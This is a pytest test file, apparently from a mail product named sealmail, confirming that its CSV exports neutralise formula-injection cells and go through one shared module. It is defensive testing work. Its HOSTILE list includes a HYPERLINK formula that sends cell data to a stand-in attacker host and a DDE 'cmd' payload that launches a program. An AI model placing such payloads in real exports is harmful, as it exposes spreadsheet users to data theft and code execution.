"""Every CSV the product writes is safe to open in a spreadsheet, and written in one place.

Before, three modules kept their own copy of the formula check and the delivery report
(``/v1/reports/delivery.csv``, the evidence pack's report) wrote cells with none.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from sealmail.domain.spreadsheet import FORMULA_START, csv_line, csv_table, safe_cell, unprotected

SRC = Path(__file__).resolve().parents[3] / "src" / "sealmail"
HOSTILE = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_marked_as_text_and_reads_back_unchanged(value: str) -> None:
    cell = safe_cell(value)
    assert cell.startswith("'")
    assert not cell.startswith(FORMULA_START)
    assert unprotected(cell) == value


@pytest.mark.parametrize("value", ["jane@example.test", "'quoted'", "'", "", "a=b", "1-2", " x"])
def test_ordinary_cells_are_written_as_they_are(value: str) -> None:
    assert safe_cell(value) == value
    assert unprotected(value) == value


def test_lines_and_tables_are_rfc_4180_with_every_cell_protected() -> None:
    text = csv_table(["name", "=header"], [["=1+1", "a,b"], ["x\r\ny", "@y"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "'=header"], ["'=1+1", "a,b"], ["x\r\ny", "'@y"]]
    assert csv_line(["-1"]) == "'-1\r\n"


def test_no_module_writes_csv_except_through_the_spreadsheet_module() -> None:
    writer = re.compile(r"\bcsv\.(?:writer|DictWriter)\b|\.writerows?\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheet.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
